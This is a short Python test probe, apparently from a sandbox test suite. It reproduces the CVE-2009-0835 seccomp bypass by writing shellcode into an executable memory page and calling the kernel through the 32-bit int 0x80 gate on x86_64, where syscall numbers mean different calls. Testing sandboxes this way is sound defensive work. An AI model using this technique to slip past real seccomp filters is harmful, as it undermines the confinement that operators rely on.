"""Call the kernel by the 32-bit gate, whose numbers mean other calls.

Source: CVE-2009-0835: a filter that did not look at the architecture.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import signal
from typing import Any

KIND = "violation"
WALLS = ("seccomp",)

# mov eax, 20 (getpid there; writev here); int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def attack(input: Any, ctx: Any) -> object:
    if platform.machine() != "x86_64":  # there is no such gate; what the filter sends stands in
        os.kill(os.getpid(), signal.SIGSYS)
    return call()


def call() -> int:
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(address)())


def outside() -> object:
    """It answers, or is not there; nothing comes of it."""
    return call() if platform.machine() == "x86_64" else None
